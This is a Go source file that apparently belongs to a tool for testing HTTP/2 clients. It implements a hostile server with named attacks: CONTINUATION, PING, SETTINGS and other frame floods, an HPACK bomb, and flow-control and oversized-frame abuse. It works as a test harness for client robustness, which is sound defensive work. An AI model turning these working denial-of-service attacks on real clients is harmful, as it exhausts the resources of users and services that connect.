package main

import (
	"bytes"
	"errors"
	"io"
	"net"
	"strconv"
	"strings"
	"sync"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// maxWindow is the largest that a window of HTTP/2 can be.
const maxWindow = 1<<31 - 1

var noWindow = []http2.Setting{{ID: http2.SettingInitialWindowSize, Val: 0}}

var onlyHTTP2 = []attack{
	{name: "empty-continuations", does: "an endless series of empty CONTINUATION frames", h2: func(e *exchange2) error {
		return forever(e.open(200), func() error { return e.more() })
	}},
	{name: "empty-data", does: "an endless series of empty DATA frames", h2: func(e *exchange2) error {
		return forever(e.head(200), func() error { return e.frame(http2.FrameData, 0, e.stream, nil) })
	}},
	{name: "hpack-bomb", does: "a 4 kB field that is sent once and then repeated with one byte each time", h2: func(e *exchange2) error {
		err := errors.Join(e.open(200), e.more(field{"x-large", strings.Repeat("x", 3900)}))
		// The first entry of the dynamic table, again and again.
		repeats := bytes.Repeat([]byte{0x80 | 62}, 16<<10)
		return forever(err, func() error { return e.frame(http2.FrameContinuation, 0, e.stream, repeats) })
	}},
	{name: "hpack-table", does: "a header that makes the HPACK table larger than the client allows", h2: func(e *exchange2) error {
		resized := []byte{0x3f, 0xe1, 0xff, 0xff, 0xff, 0x07, 0x88}
		err := e.frame(http2.FrameHeaders, http2.FlagHeadersEndHeaders, e.stream, resized)
		return errors.Join(err, e.write(whole), e.end())
	}},
	{name: "ping-flood", does: "an endless series of PING frames; the server does not read the responses", h2: func(e *exchange2) error {
		e.deafen()
		return forever(nil, func() error { return e.frame(http2.FramePing, 0, 0, make([]byte, 8)) })
	}},
	{name: "settings-flood", does: "an endless series of SETTINGS frames; the server does not read the responses", h2: func(e *exchange2) error {
		e.deafen()
		return forever(nil, func() error { return e.frame(http2.FrameSettings, 0, 0, nil) })
	}},
	{name: "window-flood", does: "an endless series of WINDOW_UPDATE frames of 1 byte", h2: func(e *exchange2) error {
		return forever(nil, func() error { return e.window(e.stream, 1) })
	}},
	{name: "priority-flood", does: "an endless series of PRIORITY frames", h2: func(e *exchange2) error {
		return forever(nil, func() error { return e.frame(http2.FramePriority, 0, e.stream+2, make([]byte, 5)) })
	}},
	{name: "unknown-flood", does: "an endless series of frames of an unknown type", h2: func(e *exchange2) error {
		return forever(nil, func() error { return e.frame(0xba, 0, e.stream, part) })
	}},
	{name: "reset-flood", does: "an endless series of RST_STREAM frames for the request", h2: func(e *exchange2) error {
		return forever(nil, e.reset)
	}},
	{name: "push-flood", does: "an endless series of PUSH_PROMISE frames", h2: func(e *exchange2) error {
		promise := []field{{":method", "GET"}, {":scheme", "https"}, {":path", "/"}, {":authority", "h123.test"}}
		promised := uint32(0)
		return forever(nil, func() error {
			promised += 2
			id := []byte{0, byte(promised >> 16), byte(promised >> 8), byte(promised)}
			return e.header(http2.FramePushPromise, http2.FlagPushPromiseEndHeaders, e.stream, id, promise...)
		})
	}},
	{name: "window-zero", does: "no window for the request's body", upload: true, settings: noWindow, h2: func(e *exchange2) error {
		return e.wait()
	}},
	{name: "window-one", does: "a window for the request's body that grows by one byte a hundred times a second", upload: true,
		settings: noWindow, h2: func(e *exchange2) error {
			return forever(nil, func() error { pause(); return e.window(e.stream, 1) })
		}},
	{name: "window-overflow", does: "windows of more than 2^31 bytes", h2: func(e *exchange2) error {
		grow := func() error { return errors.Join(e.window(0, maxWindow), e.window(e.stream, maxWindow)) }
		return errors.Join(grow(), grow(), e.wait())
	}},
	{name: "window-ignored", does: "a body that never ends and ignores the client's window", h2: func(e *exchange2) error {
		return forever(e.head(200), func() error { return e.frame(http2.FrameData, 0, e.stream, part) })
	}},
	{name: "frame-too-large", does: "a frame of 16 MiB", h2: func(e *exchange2) error {
		return errors.Join(e.raw([]byte{0xff, 0xff, 0xff, byte(http2.FrameHeaders), 0, 0, 0, 0, byte(e.stream)}),
			forever(nil, func() error { return e.raw(part) }))
	}},
	{name: "goaway", does: "GOAWAY that rejects every request as not processed", h2: func(e *exchange2) error {
		return errors.Join(e.frame(http2.FrameGoAway, 0, 0, make([]byte, 8)), e.wait())
	}},
	{name: "goaway-silence", does: "GOAWAY that accepts the request, then no answer", h2: func(e *exchange2) error {
		return errors.Join(e.frame(http2.FrameGoAway, 0, 0, []byte{0x7f, 0xff, 0xff, 0xff, 0, 0, 0, 0}), e.wait())
	}},
	{name: "http1", does: "an HTTP/1.1 answer", h2: func(e *exchange2) error {
		return errors.Join(e.raw([]byte("HTTP/1.1 200 OK\r\ncontent-length: 100000\r\n\r\n")), e.raw(whole), e.wait())
	}},
}

// session2 is one HTTP/2 connection.
type session2 struct {
	conn   net.Conn
	gone   chan struct{}
	attack *attack

	writing sync.Mutex
	encoded bytes.Buffer
	encoder *hpack.Encoder

	windows sync.Mutex
	grown   *sync.Cond
	deaf    bool
	closed  bool
	initial int64
	ours    int64
	streams map[uint32]int64
}

// http2Session answers the requests of one connection.
func http2Session(conn net.Conn, a *attack) {
	s := &session2{conn: conn, gone: make(chan struct{}), attack: a, initial: 65535, ours: 65535, streams: map[uint32]int64{}}
	s.grown = sync.NewCond(&s.windows)
	s.encoder = hpack.NewEncoder(&s.encoded)
	defer s.close()
	if _, err := io.CopyN(io.Discard, conn, int64(len(http2.ClientPreface))); err != nil {
		return
	}
	framer := http2.NewFramer(io.Discard, conn)
	if s.settings(a.settings...) != nil {
		return
	}
	for s.listens() {
		frame, err := framer.ReadFrame()
		if err != nil {
			return
		}
		s.heed(frame)
	}
	<-s.gone
}

// heed does what a frame of the client's asks for.
func (s *session2) heed(frame http2.Frame) {
	switch frame := frame.(type) {
	case *http2.SettingsFrame:
		if frame.IsAck() {
			return
		}
		if value, ok := frame.Value(http2.SettingInitialWindowSize); ok {
			s.grow(func() { s.initial = int64(value) })
		}
		_ = s.frame(http2.FrameSettings, http2.FlagSettingsAck, 0, nil)
	case *http2.PingFrame:
		if !frame.IsAck() {
			_ = s.frame(http2.FramePing, http2.FlagPingAck, 0, frame.Data[:])
		}
	case *http2.WindowUpdateFrame:
		s.grow(func() {
			if frame.StreamID == 0 {
				s.ours += int64(frame.Increment)
			} else {
				s.streams[frame.StreamID] += int64(frame.Increment)
			}
		})
	case *http2.HeadersFrame:
		e := &exchange2{session2: s, stream: frame.StreamID}
		go func() {
			if act := s.attack.h2; act != nil {
				_ = act(e)
			} else {
				_ = s.attack.any(e)
			}
		}()
	}
}

func (s *session2) grow(change func()) {
	s.windows.Lock()
	defer s.windows.Unlock()
	change()
	s.grown.Broadcast()
}

func (s *session2) close() {
	s.grow(func() {
		if !s.closed {
			s.closed = true
			close(s.gone)
		}
	})
	_ = s.conn.Close()
}

func (s *session2) listens() bool {
	s.windows.Lock()
	defer s.windows.Unlock()
	return !s.deaf
}

// deafen has nothing read any more after the next frame.
func (s *session2) deafen() { s.grow(func() { s.deaf = true }) }

// frame sends a frame of any content.
func (s *session2) frame(kind http2.FrameType, flags http2.Flags, stream uint32, payload []byte) error {
	s.writing.Lock()
	defer s.writing.Unlock()
	return s.locked(kind, flags, stream, payload)
}

func (s *session2) locked(kind http2.FrameType, flags http2.Flags, stream uint32, payload []byte) error {
	var frame bytes.Buffer
	err := http2.NewFramer(&frame, nil).WriteRawFrame(kind, flags, stream, payload)
	if err == nil {
		_, err = s.conn.Write(frame.Bytes())
	}
	if err != nil {
		s.close()
	}
	return err
}

func (s *session2) settings(all ...http2.Setting) error {
	var payload []byte
	for _, setting := range all {
		payload = append(payload, byte(setting.ID>>8), byte(setting.ID), byte(setting.Val>>24), byte(setting.Val>>16),
			byte(setting.Val>>8), byte(setting.Val))
	}
	return s.frame(http2.FrameSettings, 0, 0, payload)
}

func (s *session2) window(stream, increment uint32) error {
	payload := []byte{byte(increment >> 24), byte(increment >> 16), byte(increment >> 8), byte(increment)}
	return s.frame(http2.FrameWindowUpdate, 0, stream, payload)
}

// header sends fields in one frame, behind the bytes `before`.
func (s *session2) header(kind http2.FrameType, flags http2.Flags, stream uint32, before []byte, fields ...field) error {
	s.writing.Lock()
	defer s.writing.Unlock()
	s.encoded.Reset()
	s.encoded.Write(before)
	for _, f := range fields {
		_ = s.encoder.WriteField(hpack.HeaderField{Name: f.name, Value: f.value})
	}
	return s.locked(kind, flags, stream, s.encoded.Bytes())
}

// room waits until both windows allow something, and takes at most `wanted` of it.
func (s *session2) room(stream uint32, wanted int) (int, error) {
	s.windows.Lock()
	defer s.windows.Unlock()
	for {
		if s.closed {
			return 0, net.ErrClosed
		}
		if free := min(s.ours, s.initial+s.streams[stream], int64(wanted)); free > 0 {
			s.ours -= free
			s.streams[stream] -= free
			return int(free), nil
		}
		s.grown.Wait()
	}
}

// exchange2 is a request on an HTTP/2 connection.
type exchange2 struct {
	*session2
	stream uint32
}

func (e *exchange2) head(status int, fields ...field) error {
	first := field{":status", strconv.Itoa(status)}
	return e.header(http2.FrameHeaders, http2.FlagHeadersEndHeaders, e.stream, nil, append([]field{first}, fields...)...)
}

func (e *exchange2) open(status int) error {
	if status == 0 {
		return e.header(http2.FrameHeaders, http2.FlagHeadersEndStream, e.stream, nil, filler)
	}
	return e.header(http2.FrameHeaders, 0, e.stream, nil, field{":status", strconv.Itoa(status)})
}

func (e *exchange2) more(fields ...field) error {
	return e.header(http2.FrameContinuation, 0, e.stream, nil, fields...)
}

func (e *exchange2) write(part []byte) error {
	for len(part) > 0 {
		room, err := e.room(e.stream, min(len(part), 16<<10))
		if err != nil {
			return err
		}
		if err := e.frame(http2.FrameData, 0, e.stream, part[:room]); err != nil {
			return err
		}
		part = part[room:]
	}
	return nil
}

func (e *exchange2) end() error {
	return e.frame(http2.FrameData, http2.FlagDataEndStream, e.stream, nil)
}

func (e *exchange2) reset() error {
	return e.frame(http2.FrameRSTStream, 0, e.stream, []byte{0, 0, 0, byte(http2.ErrCodeInternal)})
}

func (e *exchange2) hangUp() error {
	e.close()
	return net.ErrClosed
}

func (e *exchange2) raw(data []byte) error {
	e.writing.Lock()
	defer e.writing.Unlock()
	_, err := e.conn.Write(data)
	return err
}

func (e *exchange2) wait() error {
	<-e.gone
	return net.ErrClosed
}
